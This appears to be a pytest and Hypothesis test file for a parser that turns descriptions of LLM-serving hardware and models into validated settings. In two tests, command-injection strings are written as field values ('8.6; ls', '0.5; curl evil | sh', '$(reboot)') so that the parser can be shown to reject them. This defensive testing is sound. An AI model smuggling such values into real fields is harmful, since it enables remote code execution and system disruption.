"""Situations are read leniently: nothing raises, nothing is lost, each problem names its field."""

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.fuzz import addresses
from wizard.address import apply_patch, from_flat, from_fragment
from wizard.situation import fragment, get, read, to_flat
from wizard.vocabulary import NEEDS, OSES, PRIORITIES, SERVING

FULL = {
    "devices": [{"device": "RTX 3090", "count": 2}],
    "model": "Qwen/Qwen3-32B",
    "serving": "team",
    "traffic": {"concurrency": 4},
}


def test_names_as_people_write_them(kb):
    for text, id_ in [
        ("RTX 3090", "rtx-3090"),
        ("GeForce RTX 3090 24GB", "rtx-3090"),
        ("4090", "rtx-4090"),
        ("nvidia rtx 4090", "rtx-4090"),
        ("H100 SXM", "h100-sxm"),
        ("MI300X", "mi300x"),
        ("m4 max 64", "m4-max"),
    ]:
        hit = kb.find_device(text)
        assert hit and hit[0] == id_, text
    for text, id_ in [
        ("Qwen/Qwen3-32B", "qwen3-32b"),
        ("Qwen3 32B", "qwen3-32b"),
        ("qwen3-32b", "qwen3-32b"),
        ("meta-llama/Llama-3.1-8B-Instruct", "llama-3-1-8b"),
    ]:
        hit = kb.find_model(text)
        assert hit and hit[0] == id_, text


def test_a_checkpoint_name_brings_its_format(kb):
    reading = read({**FULL, "model": "Qwen/Qwen3-32B-AWQ"}, kb)
    assert reading.situation["model"] == {"id": "qwen3-32b"}
    assert reading.situation["format"]["family"] == "awq"


def test_defaults_are_listed_as_assumptions(kb):
    reading = read(FULL, kb)
    assert not reading.problems
    assumed = {a["path"]: a["value"] for a in reading.assumptions}
    assert assumed["host.os"] == "linux"
    assert assumed["links.within"] == "pcie"
    assert "traffic.concurrency" not in assumed
    assert "serving" not in assumed
    for path, value in assumed.items():
        assert get(reading.situation, path) == value


def test_what_follows_from_the_hardware(kb):
    mac = read({"devices": [{"device": "m4-max", "count": 1}]}, kb).situation
    assert mac["host"]["os"] == "macos"
    assert mac["host"]["arch"] == "aarch64"
    assert mac["host"]["ram_gib"] == mac["devices"][0]["memory_gib"]
    assert mac["links"]["within"] == "none"
    module = read({"devices": [{"device": "gh200", "count": 1, "memory_gib": 96}]}, kb).situation
    assert module["host"]["arch"] == "aarch64" and module["host"]["ram_gib"] >= 96
    h100 = read({"devices": [{"device": "h100-sxm", "count": 8}]}, kb).situation
    assert h100["links"]["within"] == "nvswitch"


def test_each_problem_names_its_field_and_the_rest_is_kept(kb):
    reading = read(
        {
            "devices": [{"device": "RTX 3090x", "count": 2}, {"device": "rtx-4090", "count": "two"}],
            "model": "Qwen3-33B",
            "context": {"tokens": "32 tk", "input": 2.5, "output": 800},
            "traffic": {"concurrency": 0, "shared_prefix": 7},
            "needs": ["tool-calls", "telepathy"],
            "serving": "everyone",
            "priority": "latency",
            "host": "linux",
            "colour": "blue",
        },
        kb,
    )
    paths = {p.path: p.text for p in reading.problems}
    assert paths == {
        "colour": "problem.unknown-field",
        "host": "problem.not-a-map",
        "context.tokens": "problem.not-a-number",
        "context.input": "problem.not-whole",
        "traffic.concurrency": "problem.out-of-range",
        "traffic.shared_prefix": "problem.out-of-range",
        "needs": "problem.not-one-of",
        "serving": "problem.not-one-of",
        "devices.0.device": "problem.unknown-device",
        "devices.1.count": "problem.not-a-number",
        "model": "problem.unknown-model",
    }
    near = next(p for p in reading.problems if p.path == "devices.0.device").params["near"]
    assert any("3090" in name for name in near)
    assert reading.situation["context"]["output"] == 800
    assert reading.situation["needs"] == ["tool-calls"]
    assert reading.situation["priority"] == "latency"
    assert reading.situation["devices"][0]["device"] == "rtx-4090"


@pytest.mark.parametrize(
    ("field", "written", "value"),
    [
        ("context.tokens", "32k", 32768), ("context.tokens", "1M", 1048576), ("context.tokens", "1,5 к", 1536),
        ("traffic.concurrency", "2k", 2000), ("traffic.shared_prefix", "30%", 0.3),
        ("traffic.shared_prefix", "30 %", 0.3),
    ],
)  # fmt: skip
def test_numbers_with_their_unit(kb, field, written, value):
    reading = read({field.split(".")[0]: {field.split(".")[1]: written}}, kb)
    assert not reading.problems
    assert reading.stated[field.split(".")[0]][field.split(".")[1]] == value


def test_a_number_beyond_all_is_one(kb):
    reading = read({"traffic": {"concurrency": "99999999999999999999"}, "context": {"tokens": "9%"}}, kb)
    assert {p.path: p.text for p in reading.problems} == {
        "traffic.concurrency": "problem.out-of-range", "context.tokens": "problem.not-a-number",
    }  # fmt: skip


def test_architecture_is_refused_by_the_name_of_the_missing_field(kb):
    base = {
        "layers": 32,
        "hidden": 4096,
        "heads": 32,
        "vocab": 32000,
        "params": {"total": 7_000_000_000},
        "attention": [{"kind": "full", "layers": 32, "kv_heads": 8, "head_dim": 128}],
    }
    assert not read({"model": {"architecture": base}}, kb).problems
    for missing in ("layers", "heads", "vocab", "attention", "params"):
        broken = {k: v for k, v in base.items() if k != missing}
        problems = read({"model": {"architecture": broken}}, kb).problems
        assert [p.path for p in problems] == [f"model.architecture.{missing}"]
    wrong = {**base, "attention": [{**base["attention"][0], "layers": 31}]}
    assert read({"model": {"architecture": wrong}}, kb).problems[0].text == "problem.contradicts"
    odd = {**base, "attention": [{"kind": "holographic", "layers": 32}]}
    assert read({"model": {"architecture": odd}}, kb).problems[0].path == "model.architecture.attention.0.kind"


anything = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=12)),
    lambda inner: st.one_of(
        st.lists(inner, max_size=3),
        st.dictionaries(
            st.one_of(
                st.text(max_size=6), st.sampled_from(["device", "count", "custom", "id", "architecture", "tokens"])
            ),
            inner,
            max_size=4,
        ),
    ),
    max_leaves=10,
)
keys = st.sampled_from(
    [
        "devices",
        "host",
        "links",
        "nodes",
        "model",
        "format",
        "settings",
        "context",
        "traffic",
        "needs",
        "already",
        "serving",
        "priority",
        "optional",
        "x",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.one_of(anything, st.dictionaries(keys, anything, max_size=8)))
def test_anything_can_be_read(kb, data):
    reading = read(data, kb)
    json.dumps(reading.situation, allow_nan=False)
    json.dumps([p.plain() for p in reading.problems], allow_nan=False)
    assert reading.situation["serving"] in SERVING
    assert reading.situation["host"]["os"] in OSES


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_any_fragment_can_be_read(kb, text):
    data, problems = from_fragment("#" + text)
    reading = read(data, kb)
    json.dumps([p.plain() for p in [*problems, *reading.problems]], allow_nan=False)


said = st.fixed_dictionaries(
    {},
    optional={
        "devices": st.lists(
            st.fixed_dictionaries(
                {"device": st.sampled_from(["rtx-3090", "rtx-4090", "h100-sxm"]), "count": st.integers(1, 8)}
            ),
            min_size=1,
            max_size=2,
            unique_by=lambda d: d["device"],
        ),
        "model": st.sampled_from(
            [{"id": "qwen3-32b"}, {"params_b": 70}, {"params_b": 30, "active_b": 3, "kind": "moe"}]
        ),
        "serving": st.sampled_from(SERVING),
        "priority": st.sampled_from(PRIORITIES),
        "needs": st.lists(st.sampled_from(NEEDS), unique=True, max_size=3),
        "traffic": st.fixed_dictionaries({"concurrency": st.integers(1, 500)}),
        "context": st.fixed_dictionaries({"tokens": st.integers(1000, 200_000)}),
        "format": st.sampled_from(["gguf", "awq", "auto", "Q4_K_M"]),
        "nodes": st.integers(1, 4),
        "optional": st.sampled_from([{"exposure": "lan"}, {"air_gapped": True}]),
    },
)


@settings(max_examples=200, deadline=None)
@given(said)
def test_the_address_reproduces_the_situation(kb, data):
    first = read(data, kb)
    assert not first.problems
    again, problems = from_fragment(fragment(first.stated))
    second = read(again, kb)
    assert not problems and not second.problems
    assert second.situation == first.situation
    assert second.stated == first.stated
    assert fragment(second.stated) == fragment(first.stated)


def test_form_fields_and_address_say_the_same(kb):
    flat = {"devices": "2*rtx-3090", "model": "qwen3-32b", "traffic.concurrency": "4", "needs": "lora,vision"}
    data, problems = from_flat(flat)
    reading = read(data, kb)
    assert not problems and not reading.problems
    assert to_flat(reading.stated)["devices"] == "2*rtx-3090"
    assert fragment(reading.stated).startswith("#v=1&devices=2*rtx-3090&model=qwen3-32b")


def test_newer_version_of_the_address_is_told(kb):
    _, problems = from_fragment("#v=9&model=qwen3-32b")
    assert [p.text for p in problems] == ["problem.address-version"]


def test_patch_takes_an_answer_back():
    stated = {"format": {"family": "gguf", "type": None}, "traffic": {"concurrency": 4}}
    assert apply_patch(stated, {"format": None, "traffic.concurrency": 2}) == {"traffic": {"concurrency": 2}}
    assert stated["traffic"]["concurrency"] == 4


def test_equal_devices_are_counted_together(kb):
    reading = read({"devices": ["RTX 3090", "2x rtx-3090", {"device": "3090", "count": 3}, "RTX 4090"]}, kb)
    assert [(d["device"], d["count"]) for d in reading.situation["devices"]] == [("rtx-3090", 6), ("rtx-4090", 1)]
    sizes = read({"devices": ["A100 40GB", "A100 80GB"]}, kb).situation["devices"]
    assert [d["memory_gib"] for d in sizes] == [40, 80]
    own = {"custom": {"memory_gib": 8}}
    assert read({"devices": [own, own]}, kb).situation["devices"][0]["count"] == 2


def test_a_processor_beside_a_card_is_the_machines(kb):
    reading = read({"devices": ["rtx-4090", "Ryzen 9 9950X"]}, kb)
    assert [d["device"] for d in reading.situation["devices"]] == ["rtx-4090"]
    assert reading.situation["host"]["cpu"] == "ryzen-9-9950x"
    assert read(reading.stated, kb).situation == reading.situation
    named = read({"devices": ["rtx-4090", "Ryzen 9 9950X"], "host": {"cpu": "xeon-6980p"}}, kb)
    assert named.situation["host"]["cpu"] == "xeon-6980p"
    alone = read({"devices": ["Ryzen 9 9950X"]}, kb)
    assert [d["device"] for d in alone.situation["devices"]] == ["ryzen-9-9950x"]


def test_own_devices_are_read_with_care(kb):
    own = {"memory_gib": "16", "arch": "SM86", "compute_capability": 8.6, "vendor": "nvidia", "bandwidth_gbs": "448"}
    custom = read({"devices": [{"custom": own}]}, kb).situation["devices"][0]["custom"]
    assert custom == {
        "memory_gib": 16, "arch": "sm_86", "compute_capability": "8.6", "vendor": "nvidia", "bandwidth_gbs": 448,
    }  # fmt: skip
    broken = read({"devices": [{"custom": {"memory_gib": 16, "compute_capability": "8.6; ls"}}]}, kb)
    assert [p.path for p in broken.problems] == ["devices.0.custom.compute_capability"]
    assert "compute_capability" not in broken.situation["devices"][0]["custom"]
    assert not read({"devices": [{"custom": {"vendor": "nvidia"}}]}, kb).situation["devices"]


def test_a_version_stands_in_commands_so_nothing_else_passes(kb):
    said = {
        "vLLM": "0.33.0",
        "llama.cpp": "b11413",
        "sglang": "0.5; curl evil | sh",
        "lmdeploy": "$(reboot)",
        "nobody": "1",
    }
    reading = read({"optional": {"engine_versions": said}}, kb)
    assert reading.situation["optional"]["engine_versions"] == {"vllm": "0.33.0", "llama-cpp": "b11413"}
    texts = {p.path: p.text for p in reading.problems}
    assert texts == {
        "optional.engine_versions.sglang": "problem.not-a-version",
        "optional.engine_versions.lmdeploy": "problem.not-a-version",
        "optional.engine_versions.nobody": "problem.unknown-engine",
    }
    assert read({"optional": {"engine_versions": {"vllm": 0.33}}}, kb).situation["optional"]["engine_versions"] == {
        "vllm": "0.33"
    }


def test_a_request_is_at_least_as_long_as_its_parts(kb):
    long = read({"context": {"input": 60_000, "output": 2000}}, kb)
    assert not long.problems and long.situation["context"]["tokens"] == 65_536
    short = read({"context": {"tokens": 7, "input": 2000, "output": 500}}, kb)
    assert [(p.path, p.text, p.params["sum"]) for p in short.problems] == [
        ("context.tokens", "problem.below-parts", 2500)
    ]
    for said in (
        {"tokens": 3000},
        {"tokens": 4096, "input": 4000},
        {"input": 32_768},
        {"output": 100_000},
        {"tokens": 1},
    ):
        context = read({"context": said}, kb).situation["context"]
        assert context["input"] + context["output"] <= max(2, context["tokens"]), said


def test_nothing_that_stands_in_a_field_raises(kb):
    junk = [
        None,
        True,
        -1,
        1e308,
        10**400,
        float("nan"),
        "",
        "\ud800",
        "x" * 400,
        [],
        {},
        [[]],
        {"kind": []},
        {1: 2},
        (1,),
    ]
    whole = {
        "devices": [{"device": "rtx-3090", "count": 2, "memory_gib": 24}, {"custom": {"memory_gib": 8, "arch": "x"}}],
        "host": {"os": "linux", "cpu": "x", "ram_gib": 8}, "links": {"within": "pcie"}, "nodes": 2,
        "model": {"id": "x"}, "format": {"family": "gguf", "type": "x"},
        "settings": {"kv": "q8_0", "layout": {"tp": 2}, "offload": "no"},
        "context": {"tokens": 1}, "traffic": {"mode": "online"}, "needs": ["lora"], "already": "vllm",
        "serving": "team",
        "optional": {"exposure": "lan", "cost": {"watts": 3}, "engine_versions": {"vllm": "1"}},
    }  # fmt: skip

    def places(value, way=()):
        if way:
            yield way
        for key in value if isinstance(value, dict) else range(len(value)) if isinstance(value, list) else ():
            yield from places(value[key], (*way, key))

    for way in places(whole):
        for odd in junk:
            data = json.loads(json.dumps(whole))
            here = data
            for step in way[:-1]:
                here = here[step]
            here[way[-1]] = odd
            reading = read(data, kb)
            text = json.dumps(
                [reading.situation, [p.plain() for p in reading.problems]], allow_nan=False, ensure_ascii=False
            )
            text.encode()  # what is printed can be printed
            again, _ = from_fragment(fragment(reading.stated))
            assert read(again, kb).situation == reading.situation, (way, odd)


def test_the_usual_length_is_no_more_than_the_model_reads(kb):
    small = read({"devices": ["rtx-3090"], "model": "llama-2-7b"}, kb)
    assert small.situation["context"]["tokens"] == kb.models["llama-2-7b"]["context"]["native"] == 4096
    assert {"id": "context-tokens", "path": "context.tokens", "value": 4096} in small.assumptions
    assert read({"devices": ["rtx-3090"], "model": "qwen3-8b"}, kb).situation["context"]["tokens"] == 32_768


def test_a_size_that_is_another_card_names_that_card(kb):
    devices = read({"devices": [{"device": "a100", "memory_gib": 40}, {"device": "rtx-3060", "memory_gib": 8}]}, kb)
    assert [(d["device"], d["memory_gib"]) for d in devices.situation["devices"]] == [
        ("a100-40gb", 40), ("rtx-3060-8gb", 8),
    ]  # fmt: skip
    assert not devices.problems


def test_an_own_device_may_stand_where_a_known_one_does_and_its_numbers_are_named(kb):
    reading = read({"devices": [{"device": {"arch": "sm86", "memory_gib": 24, "bandwidth_gbs": -5, "watts": 3}}]}, kb)
    assert reading.situation["devices"][0]["custom"] == {"memory_gib": 24, "arch": "sm_86"}
    assert [(p.path, p.text) for p in reading.problems] == [
        ("devices.0.custom.watts", "problem.unknown-field"),
        ("devices.0.custom.bandwidth_gbs", "problem.out-of-range"),
    ]


def test_a_system_that_the_hardware_does_not_run_gives_way(kb):
    reading = read({"devices": ["m4-max"], "host": {"os": "windows"}}, kb)
    assert reading.situation["host"]["os"] == "macos"
    assert [(p.text, p.params["known"]) for p in reading.problems] == [("problem.not-its-system", ["macos"])]
    assert not read({"devices": ["rtx-4090"], "host": {"os": "windows"}}, kb).problems


def test_a_field_that_does_not_exist_names_the_nearest(kb):
    problems = read({"devices": ["rtx-4090"], "modle": "qwen3-8b", "host": {"ram": 64}}, kb).problems
    assert [(p.path, p.params["near"]) for p in problems] == [("modle", ["model"]), ("host.ram", ["ram_gib"])]


def test_addresses_that_went_wrong_are_read_all_the_same(kb):
    for address in addresses.cases(400, kb, seed=5):
        addresses.check(address, kb)


@pytest.mark.parametrize(
    ("written", "device", "count"),
    [
        ("2x3090", "rtx-3090", 2), ("dual 3090", "rtx-3090", 2), ("RTX 3090 x2", "rtx-3090", 2),
        ("4 x RTX 3090", "rtx-3090", 4), ("7900XTX", "rx-7900-xtx", 1), ("8xH100", "h100-sxm", 8),
        ("EPYC 9654 12-channel", "epyc-9654", 1), ("4090", "rtx-4090", 1),
    ],
)  # fmt: skip
def test_counts_and_channels_in_the_name_of_a_device(kb, written, device, count):
    reading = read({"devices": [written]}, kb)
    assert not reading.problems
    assert [(d["device"], d["count"]) for d in reading.situation["devices"]] == [(device, count)]


def test_a_field_in_the_wrong_place_is_named_with_its_own(kb):
    problems = read({"devices": ["RTX 4090"], "os": "windows", "concurrency": 4, "modell": "x"}, kb).problems
    assert [p.params["near"] for p in problems] == [["host.os"], ["traffic.concurrency"], ["model"]]
